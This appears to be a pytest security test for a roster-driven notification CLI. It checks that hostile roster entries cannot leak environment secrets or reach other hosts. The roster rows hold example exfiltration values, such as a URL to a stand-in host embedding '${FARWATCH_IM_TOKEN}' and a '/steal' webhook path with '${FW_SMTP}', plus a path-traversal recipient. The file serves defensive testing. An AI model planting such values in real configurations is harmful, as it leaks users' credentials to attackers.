"""A roster someone else can edit tries to steal the owner's IM token and pick hosts.

The roster's ``im`` cells try the old ways (an apprise URL to 127.0.0.2 with
``${FARWATCH_IM_TOKEN}``, a URL to the real webhook host), an unknown
channel name and a recipient with path characters; one worker is legitimate.
The IMAP source logs in to a real server with a wrong canary password, and
SMTP uses a canary password the server rejects. After ``poll --once``,
``check``, ``ping`` of every worker, ``status`` (plain and ``--json``) and
``log --json``, no canary is found anywhere: output, data folder, log
records, snapshot SVGs, or the bodies the webhook received; the other host
received nothing; only the legitimate worker was messaged.
"""

from __future__ import annotations

import json
import logging
from pathlib import Path

import pytest
from click.testing import CliRunner

from farwatch.cli.main import main
from tests.security.hostile import Canaries, recorder
from tests.servers.imap import ImapServer
from tests.servers.nudge_kit import SmtpServer, Webhook

TESTS = Path(__file__).resolve().parents[1]
CANARIES = Canaries(
    {
        "FARWATCH_IM_TOKEN": "imtCANARYOk8iUj7yHg6t66ffT",
        "FW_SMTP": "smtCANARYZx1cVb3nMq5w55eeY",
        "FW_IMAP": "impCANARYWr0ngPw9Kd2s77ggU",
    }
)


def test_a_hostile_roster_reaches_no_secret_and_no_host(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    smtp_server: SmtpServer,
    webhook: Webhook,
    imap_server: ImapServer,
) -> None:
    caplog.set_level(logging.DEBUG)
    for name, value in CANARIES.values.items():
        monkeypatch.setenv(name, value)
    with recorder() as other:
        roster = tmp_path / "roster.csv"
        roster.write_text(
            "id,name,email,im,timezone,hours,days\n"
            f"ana,Ana,,json://127.0.0.2:{other.port}/${{FARWATCH_IM_TOKEN}},UTC,00:00-23:59,daily\n"
            f"ben,Ben,,hook:ben,UTC,00:00-23:59,daily\n"
            f"cy,Cy,,evil:cy,UTC,00:00-23:59,daily\n"
            f"dee,Dee,,hook:../../x?u=1,UTC,00:00-23:59,daily\n"
            f"eve,Eve,,{webhook.url('/steal')}/${{FW_SMTP}},UTC,00:00-23:59,daily\n",
            encoding="utf-8",
        )
        config = tmp_path / "config.toml"
        config.write_text(
            f'[cache]\npath = "{tmp_path / "data" / "cache.json"}"\n\n'
            "[nudge]\n"
            f'email = "{smtp_server.url("owner")}"\n'
            'email_password_env = "FW_SMTP"\n\n'
            "[nudge.im.hook]\n"
            f'url = "json://127.0.0.1:{webhook.port}/{{token}}/{{to}}"\n'
            'token_env = "FARWATCH_IM_TOKEN"\n\n'
            f'[[sources]]\ntype = "sheet"\nname = "roster"\npath = "{roster}"\n\n'
            f'[[sources]]\ntype = "imap"\nname = "mail"\nhost = "127.0.0.1"\n'
            f'port = {imap_server.port}\nusername = "{imap_server.user}"\ntls = "none"\n'
            'timeout = "5s"\npassword_env = "FW_IMAP"\n',
            encoding="utf-8",
        )
        runner = CliRunner()
        said: list[tuple[str, str]] = []

        def run(*args: str) -> str:
            result = runner.invoke(main, [*args, "--config", str(config)])
            assert result.exception is None or isinstance(result.exception, SystemExit)
            said.append((" ".join(args), result.output + result.stderr))
            return result.output

        run("poll", "--once")
        check = run("check")
        for worker in ("ana", "ben", "cy", "dee", "eve"):
            run("ping", worker, "--force")
        run("status")
        status = json.loads(run("status", "--json"))
        run("log", "--json")

    assert "line 2: im is a URL" in check and "refused" in check, check
    assert "line 6: im is a URL" in check, check
    assert "line 5: im recipient" in check, check
    assert "cy: im names channel evil, which the config does not define" in check, check
    assert [path for path, _ in webhook.requests] == [
        f"/{CANARIES.values['FARWATCH_IM_TOKEN']}/ben"
    ]
    assert other.connections == 0 and other.received == []
    assert {w["id"] for w in status["workers"]} == {"ana", "ben", "cy", "dee", "eve"}

    for where, text in said:
        assert not CANARIES.leaks(text), f"a canary leaks in {where}: {CANARIES.leaks(text)}"
    for _, payload in webhook.requests:
        assert not CANARIES.leaks(json.dumps(payload)), "a canary leaks in a message body"
    for path in sorted(tmp_path.rglob("*")):
        if path.is_file() and path.name not in ("config.toml", "roster.csv"):
            text = path.read_bytes().decode("utf-8", "replace")
            assert not CANARIES.leaks(text), f"a canary leaks in {path}"
    for record in caplog.records:
        text = record.getMessage() + (record.exc_text or "")
        assert not CANARIES.leaks(text), f"a canary leaks in log record {record.name}"
    snapshots = [p for p in TESTS.rglob("__snapshots__/**/*.svg") if p.is_file()]
    assert snapshots, "no snapshot files found to scan"
    for path in snapshots:
        assert not CANARIES.leaks(path.read_text(encoding="utf-8", errors="replace")), path
